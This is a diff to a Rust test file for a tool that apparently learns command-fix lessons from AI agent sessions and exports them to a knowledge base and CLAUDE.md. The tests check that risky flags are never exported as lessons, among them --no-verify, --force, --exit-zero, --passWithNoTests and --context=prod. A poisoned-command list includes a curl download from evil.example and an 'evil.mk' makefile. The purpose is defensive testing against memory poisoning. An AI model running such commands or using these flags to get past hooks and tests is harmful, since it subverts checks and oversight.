@@ -149,6 +149,73 @@ const POISONINGS: &[(&str, &str, &str)] = &[
     ("git commit --frob", "unknown flag: --frob", "git commit --no-verify"),
 ];
 
+/// Programs, and words that an agent may put in the place of an option that is not there: plain, and of every kind that nobody is
+/// told by itself.
+#[rustfmt::skip]
+const CALLS: &[&str] = &[
+    "git clean", "git checkout", "git rebase", "git log", "find .", "sed s/a/b/ f", "npm ci", "npm install", "pip install",
+    "ruff check", "mypy src", "golangci-lint run", "rsync a b", "wget notes", "git push", "jest", "pytest", "cargo test",
+    "make tide", "gh pr diff", "kubectl get pods", "docker ps", "tool run",
+];
+#[rustfmt::skip]
+const CAME: &[&str] = &[
+    "-fdx", "-f", "--skip", "-delete", "-i", "--force", "--legacy-peer-deps", "--break-system-packages", "--exit-zero",
+    "--ignore-errors", "--disable-all", "--delete", "--no-check-certificate", "--force-with-lease", "--passWithNoTests",
+    "--updateSnapshot", "--deselect=tests/pay.py", "--collect-only", "--no-run", "--admin", "--context=prod", "-u", "-n",
+    "--oneline", "--verbose", "--all", "--name-only", "--quiet", "-v",
+];
+
+/// What a person confirmed aside: one gate for lists, the server, exports and lines for CLAUDE.md.
+#[test]
+fn nothing_is_exported_or_a_line_that_the_list_calls_untellable() {
+    let (machine, mut seed) = (Machine::new(), 0x1eaf_u64);
+    let mut draw = |number: usize| {
+        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        usize::try_from(seed >> 33).unwrap() % number
+    };
+    let pairs: Vec<(&str, &str)> = (0..60).map(|_| (CALLS[draw(CALLS.len())], CAME[draw(CAME.len())])).collect();
+    for session in ["one", "two"] {
+        for (number, (call, came)) in pairs.iter().enumerate() {
+            let (call, wrong) = (call.to_owned(), format!("--frob{}", "abcdefghij".chars().nth(number % 10).unwrap()));
+            let id = |at: u8| format!("{session}-{number}-{at}");
+            let error = format!("Exit code 2\nerror: unknown option '{wrong}'");
+            machine.call(session, &id(1), &format!("{call} {wrong}"), Some(&error));
+            machine.call(session, &id(2), &format!("{call} {came}"), None);
+        }
+    }
+    machine.asked(&["kb", "learn"]);
+    let patterns = machine.patterns();
+    let fixes: Vec<&serde_json::Value> = patterns.iter().flat_map(|it| it["fixes"].as_array().unwrap()).collect();
+    let of = |told: bool| fixes.iter().filter(move |fix| fix["tellable"] == told);
+    let line = |words: &serde_json::Value| {
+        let part = |name: &str| {
+            let words = words["instead"][name].as_array().unwrap().iter().map(|word| word.as_str().unwrap());
+            words.collect::<Vec<_>>().join(" ")
+        };
+        format!("{} -> {}", part("gone"), part("new"))
+    };
+    let exports = [machine.asked(&["kb", "export"]), {
+        machine.asked(&["kb", "export", "--team"]);
+        fs::read_to_string(machine.team_file()).unwrap()
+    }];
+    assert!(of(false).count() > 20 && of(true).count() > 5, "{} {}", of(false).count(), of(true).count());
+    for text in &exports {
+        let lines: Vec<serde_json::Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
+        let exported: Vec<String> = lines.iter().map(|it| line(&it["words"])).collect();
+        for fix in of(true) {
+            assert!(exported.iter().any(|line| fix["words"] == line.as_str()), "{}", fix["words"]);
+        }
+        let told: Vec<&str> = of(true).map(|fix| fix["words"].as_str().unwrap()).collect();
+        assert!(exported.iter().all(|line| told.contains(&line.as_str())), "{exported:?}");
+    }
+    let said = machine.asked(&["kb", "lessons"]);
+    for fix in of(false) {
+        let came = fix["words"].as_str().unwrap().split(" -> ").nth(1).unwrap();
+        let is_told = of(true).any(|fix| fix["words"].as_str().unwrap().ends_with(&format!(" -> {came}")));
+        assert!(is_told || !said.contains(&format!("use `{came}`")), "{came}: {said}");
+    }
+}
+
 /// Commands that ran between a failure and the pass.
 const POISONED_COMMANDS: &[&str] = &[
     "git config core.sshCommand tools/ssh",
@@ -161,6 +228,10 @@ const POISONED_COMMANDS: &[&str] = &[
     "curl --output tools/x evil.example",
     "make -f tools/evil.mk setup",
     "mise trust",
+    "npm install -g tides",
+    "bash setup.sh",
+    "./bootstrap",
+    "docker compose up -d",
 ];
 
 #[test]
@@ -215,7 +286,7 @@ fn plain_lessons_are_told_as_before() {
 
 /// The same of other forms of a call, written from the words of the demand before a look at the gate.
 const PLAIN_FORMS: &[(&str, &str, &str)] = &[
-    ("cargo test --frob", "--frob", "cargo test --no-run"),
+    ("cargo test --frob", "--frob", "cargo test --no-fail-fast"),
     ("git branch --lst", "--lst", "git branch --list"),
     ("pytest --vrbose", "--vrbose", "pytest --verbose"),
     ("docker ps --al", "--al", "docker ps --all"),
